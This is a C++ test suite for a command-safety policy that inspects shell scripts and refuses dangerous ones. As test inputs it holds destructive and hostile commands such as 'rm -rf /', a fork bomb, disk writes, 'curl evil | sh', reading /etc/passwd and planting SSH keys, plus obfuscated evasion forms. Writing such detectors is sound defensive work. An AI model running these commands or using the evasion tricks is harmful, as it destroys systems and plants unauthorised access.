// The strict policy: what a verdict tells, the lists, judge(), and hostile scripts.
#include "codeexec.hpp"

#include <doctest/doctest.h>

#include <cstddef>
#include <string>
#include <string_view>
#include <vector>

#include "../../helpers/support.hpp"
#include "helpers.hpp"

using codeexec::FileAccess;
using codeexec::Judgement;
using codeexec::Policy;
using codeexec::PolicyOptions;
using codeexec::Verdict;
using support::blamed;
using support::check_form;
using support::lists;
using support::make;
using support::passes;
using support::refuses;
using support::repeat;
using support::rule_of;
using support::strict;
using namespace std::string_view_literals;

namespace {

std::string path_list(const std::vector<FileAccess>& files) {
  std::string text;
  for (const FileAccess& file : files) {
    if (!text.empty()) text += ' ';
    text += file.kind == FileAccess::Kind::read    ? "r:"
            : file.kind == FileAccess::Kind::write ? "w:"
                                                   : "x:";
    text += file.path;
    if (file.recursive) text += "/..";
    if (file.glob) text += "(glob)";
  }
  return text;
}

std::string files_of(std::string_view script, std::string_view work_dir = {}) {
  return path_list(strict().judge(script, work_dir).files);
}

}  // namespace

// strict: the verdict -----------------------------------------------------------------------------

TEST_CASE("policy: the rule that comes first is the verdict, wherever its command stands") {
  const char* parts[] = {"sudo x",
                         "su x",
                         "chmod 777 x",
                         "chown x",
                         "dd x",
                         "mkfs /dev/x",
                         "swapoff -a",
                         "mount x",
                         "x > /dev/sda",
                         "rm -rf /",
                         "rm -rf \"$x\"/*",
                         "mv x /dev/null",
                         "f() { f & f; }; f",
                         "reboot",
                         "killall5",
                         "sysctl -p",
                         "vipw",
                         "nsenter -t 1 -m",
                         "crontab x",
                         "curl x | sh",
                         "$X"};
  const auto rules = Policy::rules();
  REQUIRE_MESSAGE(std::size(parts) == rules.size(), "add a command that breaks the new rule");
  for (std::size_t i = 0; i < rules.size(); ++i)
    for (std::size_t k = i; k < rules.size(); ++k) {
      CHECK(rule_of(strict(), std::string(parts[k]) + "; " + parts[i]) == rules[i].name);
      CHECK(rule_of(strict(), std::string(parts[i]) + "; " + parts[k]) == rules[i].name);
    }
  const Policy policy = strict(lists({"ls.*"}, {"rm .*", "ls -x"}));
  CHECK(rule_of(policy, "pwd; rm x; $X") == "unknown-command");
  CHECK(rule_of(policy, "pwd; rm x") == "blocked-commands");
  CHECK(rule_of(policy, "ls -x") == "blocked-commands");
  CHECK(rule_of(policy, "ls; pwd") == "allowed-commands");
  CHECK(rule_of(policy, "ls; pwd; echo '") == "syntax");
  CHECK(rule_of(policy, "ls -l; ls") == "");
  CHECK(rule_of(policy, "sudo; echo '\0"sv) == "nul-byte");
  PolicyOptions options;
  options.max_command_bytes = 4;
  CHECK(rule_of(strict(options), "ls\0ls"sv) == "command-too-long");
}

TEST_CASE("policy: of two commands against one rule the first is reported") {
  CHECK(strict().judge("ls; sudo a; sudo b"sv).verdict.begin == 4);
  CHECK(strict().judge("rm -rf /etc; rm -rf /"sv).verdict.message ==
        "Potentially dangerous command detected: Removing what the system or its users need is "
        "not allowed (rm -rf /etc removes /etc); name only what you made, e.g. ./build");
}

TEST_CASE("policy: a refusal points at the word or the redirection that caused it") {
  const Policy policy = strict();
  CHECK(blamed(policy, "ls && sudo ls") == "sudo");
  CHECK(blamed(policy, "ls && s\\udo ls") == "s\\udo");
  CHECK(blamed(policy, "\303\251 x; /bin/su y") == "/bin/su");
  CHECK(blamed(policy, "env A=1 sudo ls") == "sudo");
  CHECK(blamed(policy, "rm -rf a /etc b") == "/etc");
  CHECK(blamed(policy, "rm -rf \"$HOME\"/* x") == "\"$HOME\"/*");
  CHECK(blamed(policy, "echo x > /dev/sda; ls") == "/dev/sda");
  CHECK(blamed(policy, "ls | tee x /dev/sda") == "/dev/sda");
  CHECK(blamed(policy, "mv -t /dev/null x") == "/dev/null");
  CHECK(blamed(policy, "mv a b /dev/null") == "/dev/null");
  CHECK(blamed(policy, "find / -name x -delete") == "/");
  CHECK(blamed(policy, "ls; $X y") == "$X");
  CHECK(blamed(policy, "ls; bash -c \"$X\" y") == "\"$X\"");
  CHECK(blamed(policy, "curl x | bash") == "bash");
  CHECK(blamed(policy, "ls; bash -c 'sudo x'") == "bash -c 'sudo x'");
  CHECK(blamed(policy, "f() { f | f; }; f") != "");
  CHECK(blamed(strict(lists({}, {"git push.*"})), "ls; git -C . push; ls") == "git -C . push");
  CHECK(blamed(strict(lists({}, {"git push.*"})), "ls; env git push; ls") == "git push");
  CHECK(blamed(strict(lists({"ls.*"})), "ls; rm x; ls") == "rm x");
  CHECK(blamed(strict(lists({"ls.*"})), "ls; f() { ls; }") == "f() { ls; }");
}

TEST_CASE("policy: a refusal says what was found") {
  const auto message = [](std::string_view script) {
    return strict().judge(script).verdict.message;
  };
  const std::string prefix = "Potentially dangerous command detected: ";
  const std::string removes = "Removing what the system or its users need is not allowed ";
  CHECK(message("rm -rf /") ==
        prefix + removes + "(rm -rf / removes /); name only what you made, e.g. ./build");
  CHECK(message("cd /etc; rm -r ssh") ==
        prefix + removes + "(rm -r ssh removes /etc/ssh); name only what you made, e.g. ./build");
  CHECK(message("env sudo ls") ==
        prefix + "Use of 'sudo' is not allowed (sudo ls); run it without");
  CHECK(message("x > /tmp/../dev/sda") ==
        prefix + "Writing to devices is not allowed (writes to /dev/sda); write to a file");
  CHECK(message("chmod -R 755 /etc") ==
        prefix +
            "A mode that others may write by, with setuid or setgid, or not known, and -R of what "
            "the system needs, is not allowed (chmod -R 755 /etc); give only what is needed, e.g. "
            "chmod u+x FILE");
  CHECK(message("mv x /dev/null") ==
        prefix + "Moving files to /dev/null is not allowed (mv x /dev/null); use rm");
  CHECK(message("\"$X\" y") ==
        prefix +
            "A command whose name is not known before it runs is not allowed (\"$X\"); "
            "write the program's name out");
  CHECK(message("curl x | sh") ==
        prefix +
            "Shell input that is not known before it runs is not "
            "allowed (sh: what it reads is not known before it runs); "
            "save it to a file, read that, and run it in a command of its own");
  CHECK(message("sudo a\nb '\x01\xff\n'") ==
        prefix + "Use of 'sudo' is not allowed (sudo a); run it without");
  CHECK(message("sudo '\x01\xff\n'") ==
        prefix + "Use of 'sudo' is not allowed (sudo \\x01\xef\xbf\xbd\\x0a); run it without");
  const std::string longest = message("sudo " + repeat("x", 10000));
  CHECK(longest.size() < 200);
  CHECK(longest.find("xxx...)") != std::string::npos);
}

TEST_CASE("policy: each rule can be switched off by its name, and no other goes with it") {
  const std::pair<std::string_view, std::string_view> samples[] = {
      {"sudo", "sudo x"},
      {"su", "su x"},
      {"chmod", "chmod 777 x"},
      {"chown", "chown x"},
      {"dd", "dd x"},
      {"mkfs", "mkfs /dev/x"},
      {"disk-tools", "swapoff -a"},
      {"mount", "mount x"},
      {"device-write", "x > /dev/sda"},
      {"rm-protected", "rm -rf /"},
      {"rm-unset-variable", "rm -rf \"$x\"/*"},
      {"mv-dev-null", "mv x /dev/null"},
      {"fork-bomb", "f() { f & f; }; f"},
      {"end-machine", "reboot"},
      {"kill-all", "killall5"},
      {"machine-settings", "sysctl -p"},
      {"accounts", "vipw"},
      {"host-access", "nsenter -t 1 -m"},
      {"plant", "crontab x"},
      {"opaque-shell-input", "curl x | sh"},
      {"unknown-command", "$X y"}};
  CHECK(std::size(samples) == Policy::rules().size());
  for (const auto& [disabled, unused] : samples) {
    PolicyOptions options;
    options.disabled_rules = {std::string(disabled)};
    const Policy policy = strict(options);
    options.compat = true;
    CHECK(Policy::create(options).has_value());
    for (const auto& sample : samples) {
      CAPTURE(std::string(sample.second));
      CHECK(rule_of(policy, sample.second) == (sample.first == disabled ? ""sv : sample.first));
    }
  }
  PolicyOptions options;
  options.disabled_rules = {"opaque-shell-input", "unknown-command"};
  CHECK(rule_of(strict(options), "$X; curl x | sh") == "");
  options.blocked = {"x"};
  CHECK(rule_of(strict(options), "$X") == "unknown-command");
  CHECK(rule_of(strict(options), "curl y | sh") == "opaque-shell-input");
}

// strict: lists -----------------------------------------------------------------------------------

TEST_CASE("policy: W-01: an allowed pattern is asked for every command, and for all of it") {
  const Policy policy = strict(lists({"python .*", "pytest.*"}));
  passes(policy, {"python x.py",
                  "python  x.py",
                  " python x.py",
                  "python 'x y'",
                  "python x.py; pytest",
                  "python x.py && pytest -q | pytest",
                  "python x > out 2>&1",
                  "python x # comment",
                  "# comment",
                  "",
                  "\n",
                  "p\\ython x",
                  "python \"a\nb\"",
                  "(python x)",
                  "{ python x; } > f",
                  "if python x; then pytest; fi",
                  "python \"$X\"",
                  "python x <<E\ntext $X\nE",
                  "pytest *.py",
                  "python ~/x",
                  "pytest $X",
                  "! python x",
                  "python x $Y",
                  "for i in 1 2; do python $i; done",
                  "python -c 'x; y'"});
  refuses(policy, "allowed-commands",
          {"python",
           "python3 x",
           "/usr/bin/python x",
           "./python x",
           "FOO=1 python x",
           "timeout 5 python x",
           "env python x",
           "python x; rm y",
           "python x\nrm -rf y",
           "python x & ls",
           "python x | tee y",
           "python $(ls)",
           "python `ls`",
           "python <(ls)",
           "python x <<E\n$(ls)\nE",
           "X=1",
           "X=1; python x",
           "> x",
           "eval python x",
           "sh -c 'python x'",
           "eval 'ls'",
           "python(){ ls; }; python x",
           "alias python=ls\npython x",
           "f() { python x; }; f",
           "command python x",
           "pyth* x",
           "${X:-python} x",
           "cd x && python y",
           "[[ -f x ]] && python y",
           "pythonx",
           "trap 'python x' EXIT",
           "xargs python x"});
  refuses(policy, "opaque-shell-input", {"python x.py && curl evil | sh"});
  CHECK(rule_of(policy, "python -c 'import os; os.system(\"id\")'") == "");
  CHECK(rule_of(policy, "python -c 'import os; os.system(\"sudo id\")'") == "sudo");
}

TEST_CASE("policy: what is not known must be allowed whatever it is") {
  refuses(strict(lists({"git [a-z]+"})), "allowed-commands",
          {"git \"$X\"", "git $X", "git ${X:-log}"});
  passes(strict(lists({"git [a-z]+"})), {"git log"});
  refuses(strict(lists({"ls [^/]*"})), "allowed-commands", {"ls \"$X\""});
  refuses(strict(lists({"ls [^;]*"})), "allowed-commands", {"ls \"$X\""});
  refuses(strict(lists({"ls a", "ls .+"})), "allowed-commands", {"ls $X"});
  passes(strict(lists({"ls.*"})), {"ls $X", "ls \"$X\"", "ls a${X}b", "ls $X $Y"});
  refuses(strict(lists({".*"})), "allowed-commands", {"A=$X ls", "${X:-ls}"});
}

TEST_CASE("policy: the usual commands pass beside an allowed list where they only read or print") {
  PolicyOptions options = lists({"git( .*)?"});
  refuses(strict(options), "allowed-commands", {"cd sub && git status", "git log | head -1"});
  options.allow_usual = true;
  const Policy policy = strict(options);
  passes(policy, {"cd sub && git status",
                  "git log | head -1",
                  "git log --oneline | grep -v fix | sort -u | wc -l",
                  "for f in *.c; do wc -l \"$f\"; done",
                  "if [ -f a ] && [ \"$X\" = y ]; then cat a; else exit 1; fi",
                  "while true; do echo x; break; done",
                  "test $(git log | wc -l) -gt 3 || printf '%s\\n' $X",
                  "printf '%s: a[1]\\n' \"$(git rev-parse HEAD)\"",
                  "cat <(git show) <<E\n$X\nE",
                  "echo $X `pwd` *.c > out",
                  "sort -t: -k2,2nr a ./*.c \"a$X\"",
                  "sort -- \"$X\" *",
                  "sort -S 1M --reverse a",
                  "uniq -c -f 1 a",
                  "uniq \"$X\"",
                  "find . -name '*.c' -newer a -o -size +3 | head -n 3",
                  "find \"./$X\" -type f -print0",
                  "rg -n --glob '*.c' x src",
                  "rg -- \"$X\" *",
                  "tree -L 2",
                  "tail -n +2 a | cut -d: -f1 | tr a-z A-Z",
                  "ls -la $X; basename \"$X\" .c; dirname $X; true; false; :; pwd",
                  "git diff && diff -u a b; cmp a b; stat a; sleep 1"});
  refuses(policy, "allowed-commands",
          {"cd sub && rm x",
           "X=1 cat a",
           "PATH=.:$PATH; cat a",
           "/bin/cat a",
           "./cat a",
           "c?t a",
           "env cat a",
           "tee a",
           "command cat a",
           "cat() { rm a; }; cat",
           "alias cat=rm\ncat a",
           "cat $(rm a)",
           "cat <(rm a)",
           "echo x | sh",
           "sort -o a b",
           "sort -uoa b",
           "sort b -o a",
           "sort --output=a b",
           "sort --outp a b",
           "sort --o a b",
           "sort -T . a",
           "sort --compress-program=./x a",
           "sort --comp ./x a",
           "sort $X",
           "sort \"$X\"",
           "sort a$X",
           "sort -k1$X a",
           "sort *",
           "sort ${X:-a}",
           "uniq a b",
           "uniq -c a b",
           "uniq -- a b",
           "uniq a$X",
           "uniq *.c",
           "uniq a >(cat)",
           "find . -delete",
           "find . -fprint a",
           "find . -fprintf a %p",
           "find . -fls a",
           "find \"$X\" -name x",
           "find . $X",
           "rg --pre ./x y",
           "rg --pre=./x y",
           "rg -z x",
           "rg -nz x",
           "rg --hostname-bin ./x y",
           "rg $X",
           "tree -o a",
           "tree -oa",
           "tree -H . -R -L 1",
           "printf -v 'a[$(id)]' x",
           "printf '%d' 'a[$(id)]'",
           "printf -vx y",
           "[ -v 'a[$(id)]' ]",
           "test -R x",
           "[ 'a[`id`]' -eq 1 ]",
           "exit 'a[$(id)]'",
           "[[ -f a ]]",
           "(( x ))",
           "set -e",
           "read x",
           "date -s 0",
           "less a"});
  // What is blocked, and what the rules refuse, is not allowed by that.
  options.blocked = {"cat .*"};
  refuses(strict(options), "blocked-commands", {"cat a", "cd x && cat a"});
  CHECK(rule_of(policy, "find / -delete") == "rm-protected");
  CHECK(rule_of(policy, "echo x > /dev/sda") == "device-write");
  // Without patterns nothing else may run.
  options = {};
  options.allow_usual = true;
  passes(strict(options), {"cd x && cat a"});
  refuses(strict(options), "allowed-commands", {"git status", "f() { cat a; }"});
  CHECK(strict(options)
            .judge("git status"sv)
            .verdict.message.find(
                "Command not in allowed list. Allowed patterns: none; and in their usual forms: "
                "basename "
                "cat cd ") == 0);
  const std::string message = policy.judge("ls; rm a"sv).verdict.message;
  CHECK(message.find("git( .*)?; and in their usual forms: basename cat cd ") != std::string::npos);
  CHECK(message.find(" more (not allowed: rm a)") != std::string::npos);
  options.compat = true;
  const auto compat = Policy::create(options);
  REQUIRE(!compat);
  CHECK(compat.error().message ==
        "allow_usual: compat judges a script by its first words: use strict");
}

TEST_CASE("policy: the message of the allowed list names the patterns and what did not match") {
  const Verdict verdict = strict(lists({"python .*", "ls"})).judge("ls; rm x"sv).verdict;
  CHECK(verdict.message ==
        "Command not in allowed list. Allowed patterns: python .*, ls (not allowed: rm x)");
  CHECK(strict(lists({"ls"})).judge("A=1 B=2"sv).verdict.message ==
        "Command not in allowed list. Allowed patterns: ls (not allowed: A=1 B=2)");
  CHECK(strict(lists({"ls"})).judge("f() { ls; }; f"sv).verdict.message ==
        "Command not in allowed list. Allowed patterns: ls (not allowed: f)");
  CHECK(
      strict(lists({".*"})).judge("f() { ls; }"sv).verdict.message ==
      "Command not in allowed list. Allowed patterns: .* (not allowed: it defines the function f)");
}

TEST_CASE("policy: W-02: a blocked pattern is asked for every form of every command") {
  const Policy policy = strict(lists({}, {"git push.*", "rm .*", "npm publish"}));
  refuses(policy, "blocked-commands",
          {"git push",
           " git push",
           "cd . && git push",
           "git -C . push",
           "git --git-dir=x push",
           "git --no-pager -c a=b push",
           "git  push",
           "env git push",
           "GIT_DIR=.git git push",
           "\ngit push",
           "(git push)",
           "g\\it push",
           "'git' \"push\"",
           "bash -c 'git push'",
           "eval git push",
           "/usr/bin/git push",
           "/usr/bin/git -C . push",
           "true;rm -rf x",
           "/bin/rm -rf x",
           "rm\t-rf x",
           "timeout 5 nice rm x",
           "find . -exec rm {} \\;",
           "ls | xargs rm",
           "X=git; $X push",
           "f() { git push; }",
           "echo $(git push)",
           "git push \"a\nb\"",
           "if git push; then ls; fi",
           "npm publish",
           "xargs npm publish"});
  passes(policy, {"git stash push", "echo git push", "grep -r 'rm x' .", "rm", "npm publish x",
                  "git commit -m 'git push'", "docker rm x", "# git push", "git pull",
                  "python -c '# os.system(\"git push\")'"});
  refuses(policy, "unknown-command", {"$X push", "gi[t] push", "/usr/bin/gi? push", "./gi* push"});
  CHECK(strict(lists({}, {"A=1 ls"})).judge("A=1 ls"sv).verdict.rule == "blocked-commands");
  CHECK(strict(lists({}, {"docker rm .*"})).judge("docker -H x rm y"sv).verdict.rule ==
        "blocked-commands");
}

TEST_CASE("policy: the message of the blocked list names the pattern and the form that matched") {
  const Policy policy = strict(lists({}, {"x", "git push.*", "git.*"}));
  CHECK(policy.judge("git push"sv).verdict.message ==
        "Command matches blocked pattern: 'git push.*'");
  CHECK(policy.judge("env git push"sv).verdict.message ==
        "Command matches blocked pattern: 'git push.*' (git push)");
  CHECK(policy.judge("git log"sv).verdict.message == "Command matches blocked pattern: 'git.*'");
  CHECK(policy.judge("git log; git push"sv).verdict.message ==
        "Command matches blocked pattern: 'git.*' (git log)");
}

TEST_CASE("policy: patterns match whole commands, and a dot takes a newline") {
  CHECK(rule_of(strict(lists({"git"})), "gitk") == "allowed-commands");
  CHECK(rule_of(strict(lists({"git|gitk"})), "gitk") == "");
  CHECK(rule_of(strict(lists({"echo .*"})), "echo 'a\nb'") == "");
  CHECK(rule_of(strict(lists({}, {"echo .*"})), "echo 'a\nb'") == "blocked-commands");
}

// strict: judge -----------------------------------------------------------------------------------

TEST_CASE("policy: judge tells the commands, also those in payloads, and of refused scripts") {
  const Judgement judgement = strict().judge("A=1 ls -l; sh -c 'sudo x'"sv);
  CHECK(judgement.verdict.rule == "sudo");
  CHECK(judgement.complete);
  REQUIRE(judgement.commands.size() == 3);
  CHECK(judgement.commands[0].words.at(1) == "-l");
  CHECK(judgement.commands[0].assignments.at(0) == "A=1");
  CHECK(judgement.commands[1].words.at(0) == "sh");
  CHECK(judgement.commands[2].words.at(0) == "sudo");
  CHECK(!strict().judge("ls '"sv).complete);
  CHECK(!strict().judge("$X"sv).complete);
  CHECK(!strict().judge("curl x | sh"sv).complete);
  CHECK(!strict().judge("cat \"$X\""sv).complete);
  CHECK(strict().judge("cat x"sv).complete);
  PolicyOptions compat_options;
  compat_options.compat = true;
  const Judgement other = make(compat_options).judge("rm -fr / > x"sv);
  CHECK(other.verdict.allowed);
  CHECK(other.commands.size() == 1);
  CHECK(path_list(other.files) == "w:x x://..");
  CHECK(make(compat_options).judge("echo dd"sv).verdict.rule == "dd");
  CHECK(strict().judge("ls\0"sv).verdict.rule == "nul-byte");
  CHECK(!strict().judge("ls\0"sv).complete);
  CHECK(strict().judge(std::vector<std::string>{"cat", "a b"}).commands.at(0).words.at(1) == "a b");
}

TEST_CASE("policy: W-50: judge tells the files that a script names") {
  CHECK(files_of("cat</etc/passwd") == "r:/etc/passwd");
  CHECK(files_of("cat < a > b 2>> c") == "r:a w:b w:c");
  CHECK(files_of("cat a 2>&1 > ro") == "w:ro r:a");
  CHECK(files_of("grep x --file=/etc/passwd") == "r:/etc/passwd r:x");
  CHECK(files_of("grep -r x src") == "r:src/..");
  CHECK(files_of("grep -e x a b") == "r:a r:b");
  CHECK(files_of("cat foo/../../../etc/passwd") == "r:../../etc/passwd");
  CHECK(files_of("cat foo/../../../etc/passwd", "/a/b") == "r:/etc/passwd");
  CHECK(files_of("ls /*") == "r:/*(glob)");
  CHECK(files_of("x | tee ro") == "w:ro");
  CHECK(files_of("cp -f a ro") == "r:a w:ro");
  CHECK(files_of("cp a b ro/") == "r:a r:b w:ro");
  CHECK(files_of("cp -r -t ro a") == "r:a/.. w:ro");
  CHECK(files_of("mv a b") == "x:a w:b");
  CHECK(files_of("sed -i s/a/b/ ro") == "w:ro");
  CHECK(files_of("sed s/a/b/ ro") == "r:ro");
  CHECK(files_of("dd if=a of=ro") == "r:a w:ro");
  CHECK(files_of("truncate -s0 ro") == "w:ro");
  CHECK(files_of("ln -sf a ro") == "w:ro");
  CHECK(files_of("mkdir -p ro/d") == "w:ro/d");
  CHECK(files_of("rm -rf a b/*") == "x:a/.. x:b/*/..(glob)");
  CHECK(files_of("rm a") == "x:a");
  CHECK(files_of("find a b -delete") == "x:a/.. x:b/..");
  CHECK(files_of("find a -exec rm {} +") == "x:a/..");
  CHECK(files_of("curl -sSLo out https://x") == "w:out");
  CHECK(files_of("wget -O out https://x") == "w:out");
  CHECK(files_of("sort -o out in") == "w:out r:in");
  CHECK(files_of("chmod -x a") == "w:a");
  CHECK(files_of("chmod -R 755 a") == "w:a/..");
  CHECK(files_of("head -n 5 a") == "r:a");
  CHECK(files_of("tail -20 a; wc -l b") == "r:a r:b");
  CHECK(files_of("cat - -- -x") == "r:-x");
  CHECK(files_of("source a; bash b c; python d") == "r:a r:b r:d");
  CHECK(files_of("env -i cat a") == "r:a");
  CHECK(files_of("sh -c 'cat a'") == "r:a");
  CHECK(files_of("cat ~/a ~bob/b") == "r:~/a r:~bob/b");
  CHECK(files_of("cat ~/../a") == "r:/home/a");
  CHECK(files_of("cd sub; cat a ../b /c", "/w") == "r:/w/sub/a r:/w/b r:/c");
  CHECK(files_of("cd /x; cat a; cd $Y; cat b", "/w") == "r:/x/a");
  CHECK(files_of("cat <(ls) <<< x") == "");
  CHECK(files_of("echo a b; git add c") == "");
  const Judgement judgement = strict().judge("cat  'a b' >c"sv);
  REQUIRE(judgement.files.size() == 2);
  CHECK(judgement.files[1].path == "a b");
  CHECK(judgement.files[1].begin == 5);
  CHECK(judgement.files[1].end == 10);
}

TEST_CASE("policy: an argv is judged as the program it starts") {
  using Argv = std::vector<std::string>;
  CHECK(strict().judge(Argv{"echo", "$(sudo x)", "; sudo", "`sudo`"}).verdict);
  CHECK(strict().judge(Argv{"sudo", "x"}).verdict.rule == "sudo");
  CHECK(strict().judge(Argv{"rm", "-rf", "/"}).verdict.rule == "rm-protected");
  CHECK(strict().judge(Argv{"rm", "-rf", "~"}).verdict);
  CHECK(strict().judge(Argv{"rm", "-rf", "x"}, "/etc").verdict.rule == "rm-protected");
  CHECK(strict().judge(Argv{"sh", "-c", "sudo x"}).verdict.rule == "sudo");
  CHECK(strict().judge(Argv{"time"}).verdict);
  CHECK(strict().judge(Argv{"if", "x"}).verdict);
  CHECK(strict().judge(Argv{"A=1", "sudo"}).verdict);
  CHECK(strict(lists({"A=1 ls"})).judge(Argv{"A=1", "ls"}).verdict);
  CHECK(strict(lists({"echo a b"})).judge(Argv{"echo", "a b"}).verdict);
}

// strict: hostile input ---------------------------------------------------------------------------

TEST_CASE("policy: hostile scripts get a verdict, and bounded work") {
  const Policy policy = strict();
  const Policy listed = strict(lists({".*"}, {"git push.*"}));
  const std::pair<std::string, std::string_view> cases[] = {
      {repeat("$(", 32768), "command-too-complex"},
      {repeat("(", 65536), "command-too-complex"},
      {repeat(";", 1000000), "syntax"},
      {repeat("a;", 500000), "command-too-complex"},
      {"'" + repeat("x", 1000000), "syntax"},
      {"\"$(" + repeat("x", 1000), "syntax"},
      {repeat("env ", 31) + "rm -rf /", "rm-protected"},
      {repeat("env ", 40) + "rm -rf /", "command-too-complex"},
      {repeat("env ", 16000) + "x", "command-too-complex"},
      {repeat("/bin/* ", 33), "command-too-complex"},
      {"xargs -I{} echo " + repeat("{}x", 5000) + " <<< " + repeat("y", 5000),
       "command-too-complex"},
      {"find " + repeat("x ", 20000) + "-exec echo " + repeat("{} ", 20000) + ";", ""},
      {repeat("find . -exec ", 10000) + "ls ';'", "command-too-complex"},
      {"python -c '" + repeat("system(", 50000) + "'", ""},
      {"python -c '" + repeat("system(\"x\");", 20000) + "'", "command-too-complex"},
      {"perl -e 'print \"" + repeat("${", 100000) + "\"'", ""},
      {"rm -rf " + repeat("a/../", 200000), ""},
      {"rm -rf " + repeat("../", 200000), ""},
      {"rm -rf /" + repeat("a/../", 200000), "rm-protected"},
      {"bash -" + repeat("x", 1000000) + " y", ""},
      {repeat("$X ", 20000), "unknown-command"},
      {"/" + repeat("*", 1000) + "a x", ""},
      {"/" + repeat("[a-", 1000) + "]* x", ""},
  };
  for (const auto& sample : cases) {
    const std::string& script = sample.first;
    const std::string_view rule = sample.second;
    CAPTURE(script.substr(0, 60));
    const Verdict verdict = policy.judge(script).verdict;
    CHECK(verdict.rule == rule);
    check_form(verdict, script);
    check_form(listed.judge(script).verdict, script);
  }
}

TEST_CASE("policy: an extended glob may be any name") {
  for (const char* script :
       {"shopt -s extglob\n/bin/@(rm) -rf /", "shopt -s extglob\n/usr/bin/+(sudo) id",
        "shopt -s extglob\n/bin/r?(m) -rf /", "shopt -s extglob\n@(rm|x) -rf /",
        "shopt -s extglob\n/bin/!(x) -rf /", "shopt -s extglob\n/bin/@(x|$(sudo id)) y",
        "shopt -s extglob\necho x > /etc/@(passwd)",
        "shopt -s extglob\ncp a ~/.@(ssh)/authorized_keys",
        "shopt -s extglob\necho x | tee /proc/@(sys)/kernel/x",
        "shopt -s extglob\nrm -rf /@(etc)/ssh", "shopt -s extglob\nx='/bin/@(rm)'; $x -rf /",
        "shopt -s extglob\nx=/bin/@(rm); $x -rf /",
        "shopt -s extglob\nx='/bin/@'; y='(rm)'; $x$y -rf /",
        "shopt -s extglob\nx='/etc/+(passwd)'; echo x > $x",
        "shopt -s extglob\n$(echo '/bin/@(rm)') -rf /"})
    CHECK_MESSAGE(!strict().judge(script).verdict.allowed, script);
  for (const char* script :
       {"shopt -s extglob\nls @(a|b).c", "shopt -s extglob\nrm -f build/!(keep).o",
        "echo 'a@(b)' > out", "grep -E 'a+(b)c' x", "shopt -s extglob\necho \"/bin/@(rm)\""})
    CHECK_MESSAGE(strict().judge(script).verdict.allowed, script);
  CHECK(files_of("cat a/@(b|c)/d") == "r:a/*/d(glob)");
}

TEST_CASE("policy: any bytes are taken, and what is found in them is told in one clean line") {
  const Policy policy = strict();
  CHECK(rule_of(policy, "\xff\xfesudo\x80") == "");
  CHECK(rule_of(policy, "\x01\x02; sudo \x7f") == "sudo");
  CHECK(rule_of(policy, "\r\nsudo x") != "");
  std::string script;
  unsigned state = 12345;
  const std::string_view pieces[] = {
      "rm ",      "-rf ",   "/ ",    "~",         "$",       "$(",   ")",    "`",     "'",
      "\"",       "\\",     ";",     "|",         "&",       "\n",   "{",    "}",     "<<E",
      "sudo ",    "xargs ", "find ", "-exec ",    "sh ",     "-c ",  "env ", "*",     "[",
      "/dev/sda", "> ",     "< ",    "python ",   "system(", "\xff", "=",    "eval ", "trap ",
      "\x01",     "..",     "::: ",  "parallel ", "-I{} "};
  for (int round = 0; round < 3000; ++round) {
    script.clear();
    for (int i = 0; i < 12; ++i) {
      state = state * 1664525u + 1013904223u;
      script += pieces[(state >> 8) % std::size(pieces)];
    }
    CAPTURE(script);
    const Judgement judgement = policy.judge(script, round % 2 ? "/etc" : "");
    check_form(judgement.verdict, script);
    for (const FileAccess& file : judgement.files) {
      CHECK(file.begin <= file.end);
      CHECK(file.end <= script.size());
      CHECK(!file.path.empty());
      CHECK(file.path.find('\0') == std::string::npos);
    }
  }
}
